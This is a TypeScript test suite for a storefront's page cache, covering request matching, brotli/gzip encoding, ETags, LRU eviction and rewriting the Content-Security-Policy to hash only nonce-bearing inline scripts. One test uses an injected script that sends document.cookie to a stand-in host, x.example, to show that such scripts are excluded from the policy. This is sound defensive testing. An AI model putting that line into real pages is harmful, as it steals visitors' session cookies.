import crypto from "node:crypto";
import zlib from "node:zlib";
import { describe, expect, it } from "vitest";
import {
  answerFromPage,
  cachedPageOf,
  compressedAnswer,
  encodingFor,
  endOfMinute,
  inlineScriptHashes,
  PageCache,
  pageRequestOf,
  policyWithHashes,
  type CachedPage,
} from "./page-cache";

const request = (path: string, init: RequestInit = {}) =>
  new Request(`http://localhost:3000${path}`, init);

const POLICY =
  "default-src 'self'; script-src 'self' 'nonce-abc123=='; style-src 'self' 'unsafe-inline'";

async function keptPage(body: string, options: Partial<Parameters<typeof cachedPageOf>[1]> = {}) {
  const page = await cachedPageOf(
    new Response(body, {
      headers: { "Content-Type": "text/html; charset=utf-8", "Content-Security-Policy": POLICY },
    }),
    {
      version: "0.1",
      now: Date.UTC(2026, 10, 25, 10, 0, 30),
      views: [],
      previous: undefined,
      ...options,
    },
  );
  if (!page) throw new Error("not kept");
  return page;
}

describe("which requests the page cache answers", () => {
  it("takes a shop's pages and their data, without cookies, by address", () => {
    expect(pageRequestOf(request("/demo"))).toEqual({ key: "/demo", username: "demo" });
    expect(pageRequestOf(request("/Demo/products.data?_routes=x"))).toEqual({
      key: "/Demo/products.data?_routes=x",
      username: "demo",
    });
    for (const page of ["cart", "stores", "about", "products/kopi-susu-3f2a9c1b"]) {
      expect(pageRequestOf(request(`/demo/${page}`))?.username).toBe("demo");
    }
  });

  it("leaves everything else to the app", () => {
    for (const path of [
      "/",
      "/admin",
      "/auth",
      "/products",
      "/api/visits",
      "/demo/order-tracking",
      "/demo/products/x/y",
      "/demo/products/kopi_susu",
      "/demo/",
      "/de%20mo",
    ]) {
      expect(pageRequestOf(request(path)), path).toBeUndefined();
    }
    expect(pageRequestOf(request("/demo", { headers: { cookie: "a=b" } }))).toBeUndefined();
    // A browser that only remembers having signed in somewhere still gets the kept pages.
    const known = "gerai_known_device=AAAAAAAAAAAAAAAAAAAAAA";
    expect(pageRequestOf(request("/demo", { headers: { cookie: known } }))).toEqual({
      key: "/demo",
      username: "demo",
    });
    expect(
      pageRequestOf(request("/demo", { headers: { cookie: `${known}; gerai.session_token=x` } })),
    ).toBeUndefined();
    expect(pageRequestOf(request("/demo", { method: "POST", body: "x" }))).toBeUndefined();
    expect(pageRequestOf(request("/demo", { method: "HEAD" }))).toBeUndefined();
  });

  it("keeps a shop's own domain's pages under its host, apart from the platform's", () => {
    const domain = { username: "demo", hostname: "tokosari.com" };
    expect(pageRequestOf(request("/products?q=kue"), domain)).toEqual({
      key: "//tokosari.com/products?q=kue",
      username: "demo",
    });
    expect(pageRequestOf(request("/"), domain)?.key).toBe("//tokosari.com/");
    expect(pageRequestOf(request("/_.data"), domain)?.key).toBe("//tokosari.com/_.data");
    // The platform's key of the same path never starts with two slashes.
    expect(pageRequestOf(request("/products"))).toBeUndefined();
    expect(pageRequestOf(request("/demo"))?.key).toBe("/demo");
    for (const path of ["/admin", "/order-tracking", "/demo/products", "/sitemap.xml"]) {
      expect(pageRequestOf(request(path), domain), path).toBeUndefined();
    }
  });
});

describe("a kept page's policy", () => {
  it("lists the hash of each inline script the server wrote, not of scripts with a source", () => {
    const script = 'window.__ctx = {"a":"<\\/script>"};';
    const html = `<script type="module" nonce="n0+/=" src="/assets/a.js"></script><script nonce="n0+/=">${script}</script><script nonce="n0+/="></script><script type="module" nonce="n0+/=">${script}</script>`;
    const digest = crypto.createHash("sha256").update(script).digest("base64");
    expect(inlineScriptHashes(Buffer.from(html), "n0+/=")).toEqual([`'sha256-${digest}'`]);
  });

  it("leaves out inline scripts without the page's nonce: only the server's own run", () => {
    const own = "start();";
    const injected = "fetch('//x.example/?c='+document.cookie)";
    const html =
      `<script nonce="n1">${own}</script><p>Tentang kami</p><script>${injected}</script>` +
      `<script nonce="lain">${injected}</script><script data-nonce="n1">${injected}</script>` +
      `<script nonce="n12">${injected}</script>`;
    const digest = crypto.createHash("sha256").update(own).digest("base64");
    expect(inlineScriptHashes(Buffer.from(html), "n1")).toEqual([`'sha256-${digest}'`]);
  });

  it("hashes a script's bytes as sent, whatever the text around it", () => {
    const script = 'window.__ctx = {"nama":"Kopi Susu — Rp 18.000 ☕","catatan":"<\\/script>"};';
    const html =
      `<p>Toko Ibu Siti — <b>☕</b></p><scripts>not a tag</scripts>` +
      `<script\nnonce="n">${script}</script><SCRIPT nonce="n">upper()</SCRIPT><script async="" nonce="n" src="/a.js"></script>`;
    const digest = crypto.createHash("sha256").update(script, "utf8").digest("base64");
    // Upper-case tags are not React's: left out, so the browser refuses them.
    expect(inlineScriptHashes(Buffer.from(html), "n")).toEqual([`'sha256-${digest}'`]);
    expect(inlineScriptHashes(Buffer.from("<p>tanpa skrip</p><script>"), "n")).toEqual([]);
  });

  it("swaps the nonce for the hashes and keeps every other directive", () => {
    expect(policyWithHashes(POLICY, ["'sha256-A'", "'sha256-B'"])).toBe(
      "default-src 'self'; script-src 'self' 'sha256-A' 'sha256-B'; style-src 'self' 'unsafe-inline'",
    );
    expect(policyWithHashes(POLICY, [])).toBe(
      "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'",
    );
  });
});

describe("answers from a kept page", () => {
  it("picks brotli, then gzip, honouring q=0", () => {
    expect(encodingFor("gzip, deflate, br, zstd")).toBe("br");
    expect(encodingFor("gzip")).toBe("gzip");
    expect(encodingFor("br;q=0, gzip;q=0.5")).toBe("gzip");
    expect(encodingFor("*")).toBe("br");
    expect(encodingFor("identity")).toBe("identity");
    expect(encodingFor(null)).toBe("identity");
  });

  it("sends the same bytes in every encoding, and 304 to a client that has them", async () => {
    const body = `<p>${"Kopi susu ".repeat(500)}</p><script>start()</script>`;
    // Rendered with the request's nonce, kept without it.
    const page = await keptPage(body.replace("<script>", '<script nonce="abc123==">'));
    const answer = (headers: Record<string, string>) =>
      answerFromPage(page, request("/demo", { headers }));

    const br = await answer({ "accept-encoding": "br, gzip" });
    expect(br.headers.get("content-encoding")).toBe("br");
    expect(br.headers.get("vary")).toBe("Accept-Encoding");
    const brBytes = Buffer.from(await br.arrayBuffer());
    expect(Number(br.headers.get("content-length"))).toBe(brBytes.length);
    expect(brBytes.length).toBeLessThan(body.length / 5);
    expect(zlib.brotliDecompressSync(brBytes).toString()).toBe(body);

    const gzip = await answer({ "accept-encoding": "gzip" });
    expect(gzip.headers.get("content-encoding")).toBe("gzip");
    expect(zlib.gunzipSync(Buffer.from(await gzip.arrayBuffer())).toString()).toBe(body);

    const plain = await answer({});
    expect(plain.headers.get("content-encoding")).toBeNull();
    expect(await plain.text()).toBe(body);
    expect(plain.headers.get("content-security-policy")).toContain("'sha256-");
    expect(plain.headers.get("content-security-policy")).not.toContain("nonce");

    const notModified = await answer({ "if-none-match": page.etag });
    expect(notModified.status).toBe(304);
    expect(await notModified.text()).toBe("");
  });

  it("compresses an answer it does not keep, as any other page", async () => {
    const body = "<p>Toko tidak ditemukan</p>".repeat(50);
    const notFound = () =>
      new Response(body, { status: 404, headers: { "Content-Type": "text/html" } });
    const gzip = compressedAnswer(
      notFound(),
      request("/x", { headers: { "accept-encoding": "gzip" } }),
    );
    expect(gzip.status).toBe(404);
    expect(gzip.headers.get("content-encoding")).toBe("gzip");
    expect(zlib.gunzipSync(Buffer.from(await gzip.arrayBuffer())).toString()).toBe(body);
    const plain = compressedAnswer(notFound(), request("/x"));
    expect(await plain.text()).toBe(body);
  });

  it("takes the request's nonce out of a kept page, bytes around it untouched", async () => {
    const body =
      '<p>Kopi — ☕</p><script nonce="abc123==">start("é")</script><link nonce="abc123==">';
    const page = await keptPage(body);
    expect(page.body.toString()).toBe('<p>Kopi — ☕</p><script>start("é")</script><link>');
    const digest = crypto.createHash("sha256").update('start("é")').digest("base64");
    const policy = page.headers["content-security-policy"];
    expect(policy).toBe(
      `default-src 'self'; script-src 'self' 'sha256-${digest}'; style-src 'self' 'unsafe-inline'`,
    );
  });

  it("compresses with brotli at quality 6: its first visitor waits for it", async () => {
    const body = `<main>${"<p>Nasi goreng spesial, telur mata sapi</p>".repeat(300)}</main>`;
    const quality6 = zlib.brotliCompressSync(body, {
      params: { [zlib.constants.BROTLI_PARAM_QUALITY]: 6 },
    });
    const kept = await answerFromPage(
      await keptPage(body),
      request("/demo", { headers: { "accept-encoding": "br" } }),
    );
    expect(Buffer.from(await kept.arrayBuffer())).toEqual(quality6);
    const streamed = compressedAnswer(
      new Response(body, { status: 404, headers: { "Content-Type": "text/html" } }),
      request("/x", { headers: { "accept-encoding": "br" } }),
    );
    expect(Buffer.from(await streamed.arrayBuffer())).toEqual(quality6);
  });

  it("keeps only a 200 that sets no cookie", async () => {
    const options = { version: "1.1", now: 0, views: [], previous: undefined };
    expect(await cachedPageOf(new Response("x", { status: 404 }), options)).toBeUndefined();
    const withCookie = new Response("x", { headers: { "Set-Cookie": "gerai_toast=1" } });
    expect(await cachedPageOf(withCookie, options)).toBeUndefined();
  });

  it("keeps the compressed forms of a page rendered again with the same bytes", async () => {
    const first = await keptPage("<p>sama</p>");
    await answerFromPage(first, request("/demo", { headers: { "accept-encoding": "br" } }));
    const again = await keptPage("<p>sama</p>", { version: "0.2", previous: first });
    expect(again.etag).toBe(first.etag);
    expect(again.encoded.br).toBe(first.encoded.br);
    const changed = await keptPage("<p>beda</p>", { previous: first });
    expect(changed.etag).not.toBe(first.etag);
    expect(changed.encoded).toEqual({});
  });
});

describe("the page cache", () => {
  const page = (version: string, expiresAt: number, size = 10): CachedPage => ({
    version,
    expiresAt,
    status: 200,
    headers: {},
    body: Buffer.alloc(size),
    etag: '"x"',
    views: [],
    encoded: {},
    bytes: size,
  });

  it("serves a page only for its version, until the end of its minute", () => {
    const at = Date.UTC(2026, 10, 25, 10, 59, 59, 500);
    expect(endOfMinute(at)).toBe(Date.UTC(2026, 10, 25, 11, 0, 0));
    const cache = new PageCache();
    cache.set("/demo", page("1.1", endOfMinute(at)));
    expect(cache.get("/demo", "1.1", at)).toBeDefined();
    expect(cache.get("/demo", "1.2", at)).toBeUndefined();
    expect(cache.get("/demo", "1.1", endOfMinute(at))).toBeUndefined();
  });

  it("drops the least recently used pages past its size", () => {
    const cache = new PageCache(30);
    for (const key of ["/a", "/b", "/c"]) cache.set(key, page("1", Infinity));
    cache.get("/a", "1", 0);
    cache.set("/d", page("1", Infinity));
    expect(["/a", "/b", "/c", "/d"].filter((key) => cache.peek(key))).toEqual(["/a", "/c", "/d"]);
  });

  it("keeps no page larger than its whole size, and drops nothing for one", () => {
    const cache = new PageCache(30);
    for (const key of ["/a", "/b"]) cache.set(key, page("1", Infinity));
    cache.set("/huge", page("1", Infinity, 31));
    expect(["/a", "/b", "/huge"].filter((key) => cache.peek(key))).toEqual(["/a", "/b"]);
  });

  it("renders once for requests arriving together", async () => {
    const cache = new PageCache();
    let renders = 0;
    let finish: (value: CachedPage) => void = () => {};
    const render = () => {
      renders += 1;
      return new Promise<CachedPage>((resolve) => (finish = resolve));
    };
    const first = cache.renderOnce("/demo", render);
    const second = cache.renderOnce("/demo", render);
    finish(page("1", Infinity));
    const [a, b] = await Promise.all([first, second]);
    expect(renders).toBe(1);
    expect([a.isRenderer, b.isRenderer]).toEqual([true, false]);
    expect(b.page).toBe(a.page);
  });
});
